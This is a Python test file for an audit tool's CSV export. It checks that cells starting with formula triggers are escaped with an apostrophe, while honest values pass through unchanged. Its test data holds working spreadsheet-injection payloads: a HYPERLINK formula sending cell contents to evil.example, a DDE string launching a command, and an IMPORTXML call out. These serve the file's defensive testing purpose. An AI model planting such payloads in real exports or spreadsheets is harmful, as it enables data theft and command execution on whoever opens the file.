"""CSV exports cannot carry a formula a spreadsheet runs (CSV/formula injection).

Attack families: each formula trigger (= + - @), after leading spaces of every width,
after quote marks, in full-width and small forms, behind a tab or a carriage return;
each in several real payloads (HYPERLINK exfiltration, DDE, IMPORTXML). Each is
checked in the rule itself and end to end: a model chooses the call id, the run id
and the tool's result text, ``reach audit export --format csv`` writes them, and
every such cell reads back as its text behind an apostrophe. Honest values (numbers,
negative numbers, e-mail addresses, text with ``=`` inside) are unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import reach_audit
from click.testing import CliRunner
from reach_audit.spreadsheet import cell

from reach_core import connector
from reach_core.cli import cli

BODIES = ['1+2', 'HYPERLINK("http://evil.example/?d="&A1,"click")', "cmd|' /C calc'!A0",
          'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', "SUM(1,2)"]
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
LEADS = ["", " ", "   ", "\u00a0", "\u3000", "\u2003", '"', "'", " '", '" ', "\u201c", "＂"]
STARTS = ["\t", "\r", "\n", "\t ", "\r\n"]

ATTACKS = sorted({lead + trigger + body for trigger in TRIGGERS for lead in LEADS for body in BODIES[:2]}
                 | {trigger + body for trigger in "=+-@" for body in BODIES}
                 | {start + text for start in STARTS for text in ("=1+2", "plain text", "@SUM(A1)")})
HONEST = ["", "hello", "a=b", "user@example.com", "北京", "x-1", "-5", "+3.25", "-0.5e3", ".5", "12",
          "ok: 1+1", "{\"a\": \"=1\"}", "[\"=1\"]", "=", " "]


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_a_cell_that_could_run_is_marked_as_text_and_kept_whole(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_is_written_as_it_is(text: str) -> None:
    expected = "'=" if text == "=" else text  # a lone "=" is an (empty) formula in LibreOffice
    assert cell(text) == expected


def test_values_that_are_not_text() -> None:
    assert cell(None) == "" and cell(12) == 12 and cell(-1.5) == -1.5 and cell(True) is True
    assert cell({"a": "=1"}) == '{"a":"=1"}' and cell(["-", "@"]) == '["-","@"]'


@connector(risk="read")
def echo(text: str) -> str:
    """Return the text as the tool's result (a model's text in the result column).

    Args:
        text: what to return
    """
    return text


async def test_the_cli_export_marks_every_model_chosen_cell(make_reach, data_dir: Path, tmp_path: Path) -> None:
    reach = make_reach()
    reach.register(echo)
    payloads = ATTACKS[::3]
    for i, text in enumerate(payloads):
        await reach.invoke({"id": text, "name": "echo", "arguments": {"text": text}}, run_id=f"{text}#{i}")
    await reach_audit.flush(reach)
    config = tmp_path / "reach.toml"
    config.write_text(f'[reach]\ndata_dir = "{data_dir.as_posix()}"\n\n[plugins]\nload = ["reach-audit"]\n'
                      '\n[plugins.reach-audit]\nlog = "off"\n', encoding="utf-8")
    def export(fmt: str) -> str:
        target = tmp_path / f"audit.{fmt}"
        result = CliRunner().invoke(cli, ["--config", str(config), "audit", "export", "--format", fmt, "-o",
                                          str(target)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return target.read_bytes().decode("utf-8")

    records = [json.loads(line) for line in export("jsonl").splitlines()]  # what the trail holds
    rows = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    assert len(rows) == len(records) == len(payloads)
    for row, record in zip(rows, records, strict=True):
        # a call id that is not printable (a tab, CR or no-break space before the trigger) is replaced by a
        # fresh call_N before anything records it (reach_core.calls.call_id); a printable one is kept, marked
        assert row["call_id"] == cell(record["call_id"])
        assert row["call_id"].startswith("'") or re.fullmatch(r"call_\d+", record["call_id"]), record["call_id"]
        for column in ("run_id", "result"):
            assert row[column] == "'" + record[column], column  # marked, and nothing of it lost
        assert row["tool"] == "echo" and row["status"] == "ok" and row["seq"] == str(record["seq"])
